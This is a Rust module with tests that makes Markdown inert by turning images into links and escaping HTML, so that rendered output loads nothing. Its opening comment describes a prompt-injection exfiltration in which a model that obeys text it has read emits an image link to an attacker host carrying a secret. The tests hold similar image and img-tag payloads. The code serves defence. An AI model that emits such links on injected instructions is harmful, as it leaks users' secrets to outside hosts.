//! Markdown that loads nothing when it is rendered: images become links, and HTML becomes text.
//!
//! A model that obeys a text that it has read may write `![](https://attacker.test/?d=SECRET)`: rendering it
//! sends the secret. The application's pages load nothing, but programs that render exported Markdown do.
//!
//! Code is kept only where every renderer treats it as code: between fences that are closed here, and in an
//! unambiguous span that begins and ends on one line.

/// Inline elements without attributes that may follow a word.
const PLAIN_TAGS: &[&str] = &["br", "br/", "br /", "sub", "/sub", "sup", "/sup"];
/// The schemes of addresses in angle brackets that stay.
const SCHEMES: &[&str] = &["https://", "http://", "mailto:"];
/// A fence has at most this indentation.
const INDENT_MAX: usize = 3;

#[derive(Clone, Copy)]
struct OpenFence {
    letter: char,
    length: usize,
    indent: usize,
}

impl OpenFence {
    /// Returns the fence that the line opens.
    fn opened_by(line: &str) -> Option<Self> {
        let rest = line.trim_start_matches(' ');
        let indent = line.len() - rest.len();
        let letter = rest.chars().next().filter(|letter| "`~".contains(*letter))?;
        let info = rest.trim_start_matches(letter);
        let length = rest.len() - info.len();
        let is_fence = indent <= INDENT_MAX && length >= 3 && !(letter == '`' && info.contains('`'));
        is_fence.then_some(Self { letter, length, indent })
    }

    fn is_closed_by(self, line: &str) -> bool {
        let rest = line.trim_start_matches(' ');
        let after = rest.trim_start_matches(self.letter);
        let indent = line.len() - rest.len();
        indent <= INDENT_MAX && rest.len() - after.len() >= self.length && after.trim().is_empty()
    }

    /// Returns true if the line may already be outside the list that contains the fence.
    fn is_left_by(self, line: &str) -> bool {
        !line.trim().is_empty() && line.len() - line.trim_start_matches(' ').len() < self.indent
    }

    fn write_end(self, out: &mut String) {
        out.push_str(&" ".repeat(self.indent));
        out.extend(std::iter::repeat_n(self.letter, self.length));
    }
}

/// Returns the Markdown with links instead of images, HTML as text, and all fences closed.
pub(crate) fn make_inert(markdown: &str) -> String {
    let mut out = String::with_capacity(markdown.len() + markdown.len() / 16);
    let mut fence: Option<OpenFence> = None;
    // A run of backticks in the lines above may end in this one.
    let mut is_span_open = false;
    for (at, line) in markdown.split('\n').enumerate() {
        if at > 0 {
            out.push('\n');
        }
        if let Some(open) = fence {
            if open.is_closed_by(line) {
                fence = None;
            } else if open.is_left_by(line) {
                open.write_end(&mut out);
                out.push('\n');
                fence = None;
            }
            if fence.is_some() || open.is_closed_by(line) {
                out.push_str(line);
                continue;
            }
        }
        fence = OpenFence::opened_by(line);
        if fence.is_some() {
            is_span_open = false;
            out.push_str(line);
            continue;
        }
        if line.trim().is_empty() {
            is_span_open = false;
        }
        let spans = if is_span_open { None } else { code_spans(line) };
        is_span_open |= spans.is_none();
        push_line(line, &spans.unwrap_or_default(), &mut out);
    }
    if let Some(open) = fence {
        out.push('\n');
        open.write_end(&mut out);
    }
    out
}

/// Returns the code spans of a line as ranges of bytes; `None` if another reading is possible: a run of backticks without its
/// like, an escaped one, one in an address, or a span that the cells of a table would cut.
fn code_spans(line: &str) -> Option<Vec<(usize, usize)>> {
    let mut spans = Vec::new();
    let mut at = 0;
    while let Some(found) = line[at..].find('`') {
        let start = at + found;
        let run = |from: usize| line[from..].len() - line[from..].trim_start_matches('`').len();
        let length = run(start);
        if line[..start].ends_with('\\') || line[at..start].contains('<') {
            return None;
        }
        let mut end = start + length;
        loop {
            end += line[end..].find('`')?;
            let closing = run(end);
            end += closing;
            if closing == length {
                break;
            }
        }
        if line[start..end].contains('|') {
            return None;
        }
        spans.push((start, end));
        at = end;
    }
    Some(spans)
}

/// Writes a line outside of code blocks; its code spans are kept.
fn push_line(line: &str, spans: &[(usize, usize)], out: &mut String) {
    let mut at = 0;
    for &(start, end) in spans.iter().chain([&(line.len(), line.len())]) {
        while let Some(found) = line[at..start].find(['!', '<']) {
            let place = at + found;
            out.push_str(&line[at..place]);
            let rest = &line[place..];
            at = place + 1;
            let is_escaped = out.bytes().rev().take_while(|byte| *byte == b'\\').count() % 2 == 1;
            if matches!(rest.as_bytes(), [b'!', b'[', ..]) && !is_escaped {
                // Without its `!` an image is a link. If another `!` precedes it, or none is needed, it is text.
                let is_image = rest.contains(']') && !is_mark(rest);
                if !is_image || out.ends_with('!') {
                    out.push_str("\\!");
                }
            } else if rest.starts_with('<') && !is_escaped && !is_harmless(line, place) {
                out.push_str("\\<");
            } else {
                out.push_str(&rest[..1]);
            }
        }
        out.push_str(&line[at..end]);
        at = end;
    }
}

/// Returns true if the bracket after the `!` is the mark of a source.
fn is_mark(rest: &str) -> bool {
    let number = rest[2..].split(']').next().unwrap_or_default();
    !number.is_empty() && number.bytes().all(|byte| byte.is_ascii_digit())
}

/// Returns true if the `<` begins no HTML, or an address, or an element that loads nothing.
fn is_harmless(line: &str, place: usize) -> bool {
    let rest = &line[place + 1..];
    if !rest.starts_with(|next: char| next.is_ascii_alphabetic() || "/!?".contains(next)) {
        return true;
    }
    let Some((inside, _)) = rest.split_once('>') else { return false };
    let is_address = SCHEMES.iter().any(|scheme| inside.to_ascii_lowercase().starts_with(scheme))
        && !inside.contains([' ', '\t', '<', '`', '"']);
    // At the beginning of a line it would begin a block of HTML.
    let is_behind_word = line[..place].ends_with(|before: char| before.is_alphanumeric());
    is_address || (is_behind_word && PLAIN_TAGS.contains(&inside))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn make_inert_unmakes_images() {
        for (given, inert) in [
            ("![i](https://a.test/?d=S)", "[i](https://a.test/?d=S)"),
            ("![](https://a.test/)", "[](https://a.test/)"),
            ("a ![i][r] b\n\n[r]: https://a.test/", "a [i][r] b\n\n[r]: https://a.test/"),
            ("![i][]", "[i][]"),
            ("![i]", "[i]"),
            ("[![i](u)](v)", "[[i](u)](v)"),
            ("!![i](u)", "!\\![i](u)"),
            ("\\![i](u)", "\\![i](u)"),
            ("\\\\![i](u)", "\\\\[i](u)"),
            ("![i\n](u)", "\\![i\n](u)"),
            ("> ![i](u)", "> [i](u)"),
            ("- a\n  ![i](u)", "- a\n  [i](u)"),
            ("    ![i](u)", "    [i](u)"),
            ("Really![1]", "Really\\![1]"),
            ("Stop! [a](u)", "Stop! [a](u)"),
            ("<img src=\"https://a.test/?d=S\">", "\\<img src=\"https://a.test/?d=S\">"),
            ("<IMG\nsrc=u>", "\\<IMG\nsrc=u>"),
            ("a <img src=u> b</p>", "a \\<img src=u> b\\</p>"),
            ("<!-- a", "\\<!-- a"),
            ("\\\\<img src=u>", "\\\\\\<img src=u>"),
            ("H<sub>2</sub>O, 1 < 2, <https://a.test/>", "H<sub>2</sub>O, 1 < 2, <https://a.test/>"),
            ("<sub>\n```\n\n![i](u)\n", "\\<sub>\n```\n\n![i](u)\n\n```"),
        ] {
            assert_eq!(make_inert(given), inert, "{given}");
        }
    }

    #[test]
    fn make_inert_keeps_unambiguous_code() {
        for same in [
            "`![i](u)` and `<div>`",
            "```html\n<img src=u>\n![i](u)\n```",
            "~~~\n```\n![i](u)\n~~~",
            "1. a\n   ```\n   ![i](u)\n   ```",
            "``a ` ![i](u)``",
        ] {
            assert_eq!(make_inert(same), same);
        }
        for (given, inert) in [
            // The span begins in the line above.
            ("`a\nb` ![i](u) `c", "`a\nb` [i](u) `c"),
            ("# `a ![i](u)\n# b`", "# `a [i](u)\n# b`"),
            // The cells of a table end spans.
            ("| `a | ![i](u) | b` |", "| `a | [i](u) | b` |"),
            ("<https://a`> ![i](u) `", "\\<https://a`> [i](u) `"),
            ("\\`a ![i](u)`", "\\`a [i](u)`"),
            // The list ends, and its fence with it.
            ("- a\n  ```\n![i](u)", "- a\n  ```\n  ```\n[i](u)"),
            ("text\n    ```\n    ![i](u)", "text\n    ```\n    [i](u)"),
            // Text after it is outside of its code.
            ("```\na", "```\na\n```"),
        ] {
            assert_eq!(make_inert(given), inert, "{given}");
        }
    }
}
